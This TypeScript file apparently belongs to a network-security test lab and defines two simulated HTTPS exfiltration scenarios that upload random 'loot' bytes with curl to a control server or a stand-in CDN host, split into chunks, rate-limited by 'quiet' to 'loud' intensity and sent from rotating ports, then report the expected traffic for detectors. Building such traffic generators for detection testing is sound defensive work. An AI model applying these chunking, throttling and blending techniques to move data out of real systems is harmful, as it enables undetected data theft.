import type { Attack, Intensity } from '../contracts.ts';
import { authorityFile } from '../services/authority.ts';
import { place } from '../services/daemon.ts';
import { controlName, controlPorts, startControl } from './control-server.ts';
import { ask, curl, curlPorts, inParts, portsFor, questionsOf } from './errands.ts';

type Plan = { readonly parts: number; readonly bytes: number; readonly rate: string };

/** Loud: as fast as an uplink goes; quiet: trickled. */
const plans: Readonly<Record<Intensity, Plan>> = {
  quiet: { parts: 12, bytes: 25_000, rate: '20k' },
  medium: { parts: 4, bytes: 400_000, rate: '150k' },
  loud: { parts: 1, bytes: 4_000_000, rate: '400k' },
};

type Kind = {
  readonly kind: string;
  readonly summary: string;
  readonly actor: string;
  readonly target: 'control' | 'cdn';
};

function httpsExfiltration({ kind, summary, actor: actorName, target: targetName }: Kind): Attack {
  return {
    kind,
    summary,
    needs: ['curl', 'dig', 'nginx', 'openssl'],
    intensities: ['quiet', 'medium', 'loud'],
    actor: actorName,
    targets: [targetName],
    async run(order) {
      const { lab, actor, intensity, random, seconds, signal } = order;
      const { parts, bytes, rate } = plans[intensity];
      const target = targetName === 'control' ? await startControl(lab) : lab.host(targetName);
      const name = targetName === 'control' ? controlName : 'downloads.example.org';
      const loot = place(actor, 'loot', `${kind}.bin`, random.bytes(bytes));
      const ports = portsFor();
      const words = [
        '--http1.1',
        '--limit-rate',
        rate,
        '--cacert',
        authorityFile(lab),
        '--resolve',
        `${name}:${controlPorts.https}:${target.address}`,
      ];
      await ask(actor, name, 'A', signal);
      await inParts(order, parts, index => {
        const where =
          targetName === 'control'
            ? ['-T', loot, `https://${name}/drop/${index}.bin`]
            : ['-H', 'Expect:', '--data-binary', `@${loot}`, `https://${name}/collect/${index}`];
        // Another port each time, as systems give them.
        return curl(actor, [...curlPorts(ports.slice(index)), ...words, ...where], { signal, seconds });
      });
      return {
        tool: 'curl',
        arguments: `${parts} × ${bytes} bytes: ${words.join(' ')}`,
        claims: [
          {
            actors: [actor.address],
            targets: [target.address],
            protocol: 'tcp',
            actorPorts: ports,
            targetPorts: [controlPorts.https],
          },
          questionsOf(actor),
        ],
      };
    },
  };
}

export const exfiltrationToControl = httpsExfiltration({
  kind: 'https-exfiltration',
  summary: 'files go out over HTTPS to where nobody ever sent any',
  actor: 'laptop',
  target: 'control',
});

export const exfiltrationToCloud = httpsExfiltration({
  kind: 'cloud-exfiltration',
  summary: 'files go out over HTTPS to a host that everybody uses',
  actor: 'desktop',
  target: 'cdn',
});
